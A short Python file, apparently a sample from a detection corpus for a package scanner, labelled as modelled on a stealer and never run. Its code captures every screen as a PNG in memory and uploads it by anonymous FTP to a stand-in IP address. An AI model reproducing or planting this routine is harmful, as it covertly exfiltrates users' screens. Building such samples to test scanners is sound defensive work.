# pkgguard corpus 159 (screenshot), modelled on [stealer-profile]; inert, never run.
import ftplib
import io
from PIL import ImageGrab

shot = ImageGrab.grab(all_screens=True)
buf = io.BytesIO()
shot.save(buf, format="PNG")
buf.seek(0)
with ftplib.FTP("100.64.159.2", "anonymous", "x") as ftp:
    ftp.storbinary("STOR s.png", buf)
